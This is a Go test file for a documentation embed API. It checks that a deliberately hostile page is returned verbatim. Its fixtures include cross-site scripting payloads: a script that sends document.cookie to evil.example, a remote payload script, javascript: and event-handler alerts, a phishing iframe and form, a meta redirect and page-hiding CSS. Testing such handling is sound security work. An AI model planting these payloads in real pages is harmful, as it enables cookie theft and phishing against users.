package docs

import (
	"net/http"
	"strings"
	"testing"
)

// TestHostilePageVerbatim wants the hostile page's markup exactly as the page
// holds it: nothing removed, escaped or rewritten (sanitizing is the viewer's
// job), in the JSON too (no \u003c escapes).
func TestHostilePageVerbatim(t *testing.T) {
	tests := []struct {
		name    string
		query   string
		wantHas []string
	}{
		{"whole page", "", []string{
			`<script>document.title = "pwned"; fetch("https://evil.example/steal?c=" + encodeURIComponent(document.cookie));</script>`,
			`<script src="https://evil.example/payload.js"></script>`,
			`<img alt="A diagram that fails to load" src="missing-diagram.png" onerror="alert(document.domain)" />`,
			`onmouseover="alert('hover')" style="color: red; background-image: url(javascript:alert(1))"`,
			`<svg width="20" height="20" onload="alert('svg')">`,
			`<a href="javascript:alert(document.cookie)">the manual</a>`,
			`<iframe src="https://evil.example/phish" width="600" height="400"></iframe>`,
			`<form action="https://evil.example/login" method="post">`,
			`<meta http-equiv="refresh" content="0; url=https://evil.example/" />`,
			`<style>body { display: none !important; }</style>`,
			`<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999; background: #fff">`,
		}},
		{"scripts section", "&section=scripts", []string{"<div class=\"section\" id=\"scripts\">\n" +
			"<h2>Scripts<a class=\"headerlink\" href=\"#scripts\" title=\"Permalink to this headline\">¶</a></h2>\n" +
			`<script>document.title = "pwned"; fetch("https://evil.example/steal?c=" + encodeURIComponent(document.cookie));</script>` + "\n" +
			"<p>Text after an inline script.</p>\n" +
			`<script src="https://evil.example/payload.js"></script>` + "\n</div>"}},
		{"event handlers section", "&section=event-handlers", []string{`onerror="alert(document.domain)"`, `onload="alert('svg')"`}},
		{"links section", "&section=links", []string{`href="javascript:alert(document.cookie)"`, `href="data:text/html;base64,`, `onclick="steal()"`}},
		{"frames and forms section", "&section=frames-and-forms", []string{`<iframe`, `<form`, `<meta http-equiv="refresh"`}},
		{"styles section", "&section=styles", []string{`<style>`, `style="position: fixed;`}},
	}
	h := New(Options{})
	for _, version := range []string{"latest", "v2.0"} {
		for _, tt := range tests {
			t.Run(version+"/"+tt.name, func(t *testing.T) {
				target := base + "/api/v2/embed/?project=" + HostileProject + "&doc=" + HostileDoc + "&version=" + version + tt.query
				var got embedAnswer
				getJSON(t, h, target, http.StatusOK, &got)
				for _, s := range tt.wantHas {
					if !strings.Contains(got.Content[0], s) {
						t.Errorf("content: got %q; want it to contain %q", got.Content[0], s)
					}
				}
				raw := serve(t, h, http.MethodGet, target, nil).Body.String()
				if strings.Contains(raw, `\u003c`) || !strings.Contains(raw, `"<div class=\"section\"`) {
					t.Errorf("body: got %.200s; want HTML unescaped in the JSON", raw)
				}
			})
		}
	}
	// The exact section the example-style request names.
	var got embedAnswer
	getJSON(t, h, base+"/api/v2/embed/?project=kitchen-sink&doc=untrusted&section=links", http.StatusOK, &got)
	want := "<div class=\"section\" id=\"links\">\n" +
		"<h2>Links<a class=\"headerlink\" href=\"#links\" title=\"Permalink to this headline\">¶</a></h2>\n" +
		`<p>Read <a href="javascript:alert(document.cookie)">the manual</a>, open <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">this data link</a>, or visit <a href="https://evil.example/" target="_blank" onclick="steal()">a normal-looking site</a>.</p>` +
		"\n</div>"
	if got.Content[0] != want {
		t.Errorf("links section: got %q; want %q", got.Content[0], want)
	}
	wantHeaders := []string{"Untrusted HTML=#", "Scripts=#scripts", "Event handlers=#event-handlers", "Links=#links",
		"Frames and forms=#frames-and-forms", "Styles=#styles"}
	var page embedAnswer
	getJSON(t, h, base+"/api/v2/embed/?url=https://kitchen-sink.readthedocs.io/en/latest/untrusted.html", http.StatusOK, &page)
	var gotHeaders []string
	for _, hd := range page.Headers {
		for k, v := range hd {
			gotHeaders = append(gotHeaders, k+"="+v)
		}
	}
	if strings.Join(gotHeaders, ",") != strings.Join(wantHeaders, ",") {
		t.Errorf("headers: got %v; want %v", gotHeaders, wantHeaders)
	}
}
